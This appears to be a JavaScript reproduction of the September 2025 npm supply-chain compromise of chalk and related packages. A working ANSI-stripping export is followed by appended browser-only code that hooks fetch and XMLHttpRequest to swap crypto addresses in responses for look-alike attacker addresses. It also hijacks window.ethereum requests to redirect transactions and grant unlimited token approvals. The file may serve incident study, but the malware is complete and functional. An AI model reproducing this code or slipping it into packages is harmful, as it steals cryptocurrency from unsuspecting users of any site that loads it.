// Incident: npm account of the maintainer of chalk, debug, ansi-styles, strip-ansi and
// ~15 other packages phished; malicious versions published on 8 September 2025.
// Code appended to each package's index.js ran only in browsers: it wrapped fetch and
// XMLHttpRequest and rewrote any crypto address in responses to the most similar-looking
// attacker address (Levenshtein distance), and wrapped window.ethereum.request so that
// transactions and approvals were sent to the attacker instead.
// Reference: https://github.com/chalk/chalk/issues/656
// (analysis: https://www.aikido.dev/blog/npm-debug-and-chalk-packages-compromised)
// Reproduction (own code, placeholder addresses).
'use strict';

const ESCAPE = /[\u001B\u009B][[\]()#;?]*(?:(?:(?:[a-zA-Z\d]*(?:;[-a-zA-Z\d/#&.:=?%@~_]*)*)?\u0007)|(?:(?:\d{1,4}(?:;\d{0,4})*)?[\dA-PR-TZcf-ntqry=><~]))/g;

module.exports = (string) => (typeof string === 'string' ? string.replace(ESCAPE, '') : string);

(function () {
  if (typeof window === 'undefined') return;

  const eth = [
    '0x4a87e450b95c3d1e2b1d88c17da82bfd265eaa17',
    '0x1f072b921f615c0b9cfc79775df9df560c860296',
    '0xfa487e252b3d8e856b7777a1e909212f2d3f9db5',
  ];
  const btc = ['bc1q6uzmkcaqjyw8z2vwhvw2wvw0kgxq9plk7fdv89', 'bc1qlfh6y6mr52h93h0ftcp398chhlt9xan25jwu3e'];
  const sol = ['fVP1dTTbkGpKB5gMJ4X5WZQuipArUqVNVNBKMy6wn9DX'];
  const trx = ['TB7dXY5cMEAkFLM1nfa69jKYuvzxRZBhRE'];

  function distance(a, b) {
    const d = Array.from({ length: a.length + 1 }, (_, i) => [i]);
    for (let j = 1; j <= b.length; j++) d[0][j] = j;
    for (let i = 1; i <= a.length; i++) {
      for (let j = 1; j <= b.length; j++) {
        d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
      }
    }
    return d[a.length][b.length];
  }

  function closest(found, pool) {
    return pool.reduce((best, cand) => (distance(found, cand) < distance(found, best) ? cand : best), pool[0]);
  }

  function swap(text) {
    return text
      .replace(/\b0x[a-fA-F0-9]{40}\b/g, (m) => closest(m, eth))
      .replace(/\bbc1[a-z0-9]{39,59}\b/g, (m) => closest(m, btc))
      .replace(/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g, (m) => closest(m, trx))
      .replace(/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g, (m) => closest(m, sol));
  }

  const origFetch = window.fetch;
  window.fetch = async function (...args) {
    const res = await origFetch.apply(this, args);
    const type = res.headers.get('content-type') || '';
    if (!type.includes('json') && !type.includes('text')) return res;
    const body = swap(await res.clone().text());
    return new Response(body, { status: res.status, statusText: res.statusText, headers: res.headers });
  };

  const open = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function (...args) {
    this.addEventListener('readystatechange', () => {
      if (this.readyState === 4 && typeof this.responseText === 'string') {
        Object.defineProperty(this, 'responseText', { value: swap(this.responseText) });
        Object.defineProperty(this, 'response', { value: swap(this.responseText) });
      }
    });
    return open.apply(this, args);
  };

  function hookWallet(provider) {
    const request = provider.request.bind(provider);
    provider.request = async function (call) {
      if (call && call.method === 'eth_sendTransaction' && call.params && call.params[0]) {
        const tx = call.params[0];
        if (tx.data && tx.data.startsWith('0x095ea7b3')) {
          tx.data = '0x095ea7b3' + eth[0].slice(2).padStart(64, '0') + 'f'.repeat(64);
        } else {
          tx.to = closest(tx.to || eth[0], eth);
        }
      }
      return request(call);
    };
  }

  if (window.ethereum) hookWallet(window.ethereum);
  else setTimeout(() => window.ethereum && hookWallet(window.ethereum), 1000);
})();
